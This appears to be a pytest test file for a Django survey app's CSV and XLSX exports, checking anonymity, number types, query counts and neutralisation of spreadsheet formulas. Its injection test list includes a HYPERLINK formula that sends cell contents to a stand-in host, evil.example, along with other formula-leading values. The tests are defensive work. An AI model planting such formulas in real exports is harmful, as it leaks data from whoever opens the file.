"""Exports of the survey responses and the data table: CSV and XLSX, anonymous, and safe to
open in a spreadsheet (no formula runs)."""

import csv
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from assessments import datatable
from assessments.exports import neutralise
from assessments.instruments import survey_for
from assessments.models import DONT_KNOW, Answer, DataRow, DataValue, Question, Response
from tests.conftest import sign_in
from tests.factories import ParticipantFactory
from workshops.models import System

INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2+3", "@SUM(A1)",
              "\t=1+1", "\r=1+1"]  # fmt: skip


def url(cast, name: str, fmt: str) -> str:
    return reverse(f"assessments:{name}", kwargs={"code": cast.workshop.code, "fmt": fmt})


@pytest.fixture
def staff(client, cast):
    return sign_in(client, cast.facilitator.user, cast.workshop)


def answers_for(response, questions, systems, strengths="Strong schools") -> list[Answer]:
    """A full set of answers, as the survey stores them."""
    answers = []
    for q in questions:
        if q.kind == Question.Kind.CHOICE:
            answers.append(Answer(response=response, question=q, value_text=q.options[-1]["value"]))
        elif q.kind == Question.Kind.SCALE:
            value = DONT_KNOW if q.key == "youth-guided" else 4
            answers.append(Answer(response=response, question=q, value_int=value))
        elif q.kind == Question.Kind.SYSTEM_MATRIX:
            for s in systems:
                cell = {"response": response, "question": q, "system": s}
                answers += [Answer(**cell, dimension=o["value"], value_int=3) for o in q.options]
                answers.append(Answer(**cell, dimension="comment", value_text=f"About {s.name}"))
        else:
            text = strengths if q.key == "strengths" else "More staff"
            answers.append(Answer(response=response, question=q, value_text=text))
    return answers


def respond(people, texts=None):
    """Responses of these participants, all submitted but the last, built in bulk."""
    survey = survey_for(people[0].workshop)
    questions = list(Question.objects.filter(section__instrument=survey.instrument))
    systems = list(System.objects.all())
    now = timezone.now()
    responses = Response.objects.bulk_create(
        Response(survey=survey, membership=m, instrument=survey.instrument,
                 submitted_at=now if i < len(people) - 1 else None)
        for i, m in enumerate(people)
    )  # fmt: skip
    texts = texts or []
    answers = []
    for i, response in enumerate(responses):
        strengths = texts[i] if i < len(texts) else "Strong schools"
        answers += answers_for(response, questions, systems, strengths)
    Answer.objects.bulk_create(answers)
    return responses


def read_csv(page) -> list[list[str]]:
    content = page.content.decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:])))


def read_xlsx(page):
    return load_workbook(io.BytesIO(page.content)).active


def in_xlsx(texts: list[str]) -> list[str]:
    """The texts as read back from an XLSX file (XML turns a carriage return into a newline)."""
    return sorted(f"'{text}".replace("\r", "\n") for text in texts)


def assert_no_formula(sheet) -> None:
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value


# --- survey responses -------------------------------------------------------------------------


def test_it_exports_the_responses_as_csv(staff, cast):
    respond([cast.participant, ParticipantFactory(workshop=cast.workshop)])
    page = staff.get(url(cast, "export_responses", "csv"))
    assert page.status_code == 200
    assert page["Content-Type"] == "text/csv; charset=utf-8"
    assert page["Content-Disposition"] == (
        'attachment; filename="tompkins-2026-survey-responses.csv"'
    )
    header, *lines = read_csv(page)
    assert header[:4] == ["Respondent system", "Respondent role", "Submitted", "Submitted on"]
    assert "child-family: Services are child-focused and family-driven." in header
    assert "systems: Youth: Availability" in header
    assert "systems: Crisis: comment" in header
    assert "strengths: What's working well in the county's system of care?" in header
    assert len(lines) == 2
    by_column = dict(zip(header, lines[0], strict=True))
    assert by_column["Respondent system"] == "Crisis"  # the label of the last option
    assert by_column["Respondent role"] == "Youth"
    assert sorted(line[2] for line in lines) == ["no", "yes"]
    assert by_column["child-family: Services are child-focused and family-driven."] == "4"
    assert by_column["youth-guided: Services are youth-guided."] == "DK"
    assert by_column["systems: Youth: Availability"] == "3"
    assert by_column["systems: Youth: comment"] == "About Youth"


def test_it_leaves_names_and_emails_out_of_the_responses(staff, cast):
    people = [cast.participant, ParticipantFactory(workshop=cast.workshop)]
    respond(people)
    for fmt in ("csv", "xlsx"):
        page = staff.get(url(cast, "export_responses", fmt))
        if fmt == "csv":
            text = page.content.decode("utf-8")
        else:
            sheet = read_xlsx(page)
            text = " ".join(str(c.value) for line in sheet.iter_rows() for c in line)
        for person in people:
            assert person.user.email not in text
            assert person.user.last_name not in text
            assert person.agency not in text


def test_it_exports_the_responses_as_xlsx_with_numbers_as_numbers(staff, cast):
    respond([cast.participant])
    page = staff.get(url(cast, "export_responses", "xlsx"))
    assert page.status_code == 200
    assert page["Content-Type"].startswith("application/vnd.openxmlformats")
    assert page["Content-Disposition"].endswith('tompkins-2026-survey-responses.xlsx"')
    sheet = read_xlsx(page)
    header = [c.value for c in sheet[1]]
    values = dict(zip(header, [c for c in sheet[2]], strict=True))
    principle = values["child-family: Services are child-focused and family-driven."]
    assert principle.value == 4
    assert principle.data_type == "n"
    assert values["youth-guided: Services are youth-guided."].value == "DK"
    assert values["Submitted"].value == "no"  # the last respondent has not submitted
    assert_no_formula(sheet)


def test_it_neutralises_formulas_in_the_responses(staff, cast):
    people = [cast.participant, *ParticipantFactory.create_batch(5, workshop=cast.workshop)]
    respond(people, texts=INJECTIONS)
    rows = read_csv(staff.get(url(cast, "export_responses", "csv")))
    column = rows[0].index("strengths: What's working well in the county's system of care?")
    exported = sorted(line[column] for line in rows[1:])
    assert exported == sorted(f"'{text}" for text in INJECTIONS)

    sheet = read_xlsx(staff.get(url(cast, "export_responses", "xlsx")))
    assert_no_formula(sheet)
    cells = sorted(line[column].value for line in sheet.iter_rows(min_row=2))
    assert cells == in_xlsx(INJECTIONS)


def test_it_drops_characters_a_spreadsheet_cannot_hold(staff, cast):
    respond([cast.participant], texts=["bell\x07 and nul-free text"])
    page = staff.get(url(cast, "export_responses", "xlsx"))
    assert page.status_code == 200
    texts = [c.value for line in read_xlsx(page).iter_rows() for c in line]
    assert "bell and nul-free text" in texts


def test_it_exports_headers_only_before_anyone_answers(staff, cast):
    rows = read_csv(staff.get(url(cast, "export_responses", "csv")))
    assert len(rows) == 1
    assert rows[0][0] == "Respondent system"


def test_it_refuses_other_formats(staff, cast):
    assert staff.get(url(cast, "export_responses", "pdf")).status_code == 404
    assert staff.get(url(cast, "export_data", "xls")).status_code == 404


def test_it_exports_responses_in_a_fixed_number_of_queries(staff, cast):
    respond([cast.participant])

    def count(fmt: str) -> int:
        with CaptureQueriesContext(connection) as queries:
            assert staff.get(url(cast, "export_responses", fmt)).status_code == 200
        return len(queries)

    few = count("csv")
    respond(ParticipantFactory.create_batch(29, workshop=cast.workshop))
    assert count("csv") == few
    assert count("xlsx") == few
    assert few <= 12  # session, user, 2 savepoints, 3 for access; survey, questions, systems,
    # responses, answers


# --- the data table ---------------------------------------------------------------------------


def fill(membership, **figures):
    metrics = datatable.active_metrics()
    values = {m.key: Decimal(figures[k]) if (k := m.key.replace("-", "_")) in figures else None
              for m in metrics}  # fmt: skip
    return datatable.save_row(membership.workshop, membership, values, metrics,
                              entered_by=membership.user)  # fmt: skip


def test_it_exports_the_data_table_with_totals(staff, cast):
    cast.participant.agency = "Tompkins Clinic"
    cast.participant.save()
    other = ParticipantFactory(workshop=cast.workshop, agency="Ithaca Youth Bureau")
    fill(cast.participant, served_total=100, days_to_service="12.5", vacancy_rate=10)
    fill(other, served_total=50, days_to_service="20", vacancy_rate=20)

    page = staff.get(url(cast, "export_data", "csv"))
    assert page.status_code == 200
    assert page["Content-Disposition"] == 'attachment; filename="tompkins-2026-data-table.csv"'
    header, *lines = read_csv(page)
    assert header[:3] == ["System", "Agency", "Participant"]
    assert "Children/youth served in the last 12 months (total)" in header
    total = header.index("Children/youth served in the last 12 months (total)")
    by_agency = {line[1]: line for line in lines}
    assert by_agency["Tompkins Clinic"][total] == "100"
    assert by_agency["Tompkins Clinic"][header.index("Status")] == "in progress"
    county = next(line for line in lines if line[0] == "County total")
    assert county[total] == "150"
    assert county[header.index("Average days from referral to first service")] == "15"
    method = next(line for line in lines if line[0] == "How the total is computed")
    assert method[total] == "sum"
    assert any(line[0] == "Total: Mental Health" for line in lines)

    sheet = read_xlsx(staff.get(url(cast, "export_data", "xlsx")))
    assert_no_formula(sheet)
    xlsx_header = [c.value for c in sheet[1]]
    column = xlsx_header.index("Children/youth served in the last 12 months (total)")
    clinic = next(line for line in sheet.iter_rows(min_row=2) if line[1].value == "Tompkins Clinic")
    assert clinic[column].value == 100
    assert clinic[column].data_type == "n"
    days = clinic[xlsx_header.index("Average days from referral to first service")]
    assert days.value == 12.5
    assert days.data_type == "n"


def test_it_neutralises_formulas_in_the_data_table(staff, cast):
    people = [cast.participant, *ParticipantFactory.create_batch(5, workshop=cast.workshop)]
    for person, text in zip(people, INJECTIONS, strict=True):
        person.agency = text
        person.save()
    fill(cast.participant, waitlist=3)
    _, *lines = read_csv(staff.get(url(cast, "export_data", "csv")))
    assert sorted(line[1] for line in lines[: len(people)]) == sorted(f"'{t}" for t in INJECTIONS)
    sheet = read_xlsx(staff.get(url(cast, "export_data", "xlsx")))
    assert_no_formula(sheet)
    agencies = sorted(line[1].value for line in sheet.iter_rows(min_row=2, max_row=len(people) + 1))
    assert agencies == in_xlsx(INJECTIONS)


def test_it_exports_the_data_table_in_a_fixed_number_of_queries(staff, cast):
    fill(cast.participant, waitlist=3)

    def count(fmt: str) -> int:
        with CaptureQueriesContext(connection) as queries:
            assert staff.get(url(cast, "export_data", fmt)).status_code == 200
        return len(queries)

    few = count("xlsx")
    metrics = datatable.active_metrics()
    people = ParticipantFactory.create_batch(30, workshop=cast.workshop)
    rows = DataRow.objects.bulk_create(
        DataRow(workshop=cast.workshop, membership=m, entered_by=m.user) for m in people
    )
    DataValue.objects.bulk_create(
        DataValue(row=row, metric=m, value=Decimal(3)) for row in rows for m in metrics
    )
    assert count("xlsx") == few
    assert count("csv") == few
    assert few <= 13


def test_it_neutralises_only_formula_like_text():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("Mental Health") == "Mental Health"
    assert neutralise("") == ""
    assert neutralise("a=b") == "a=b"
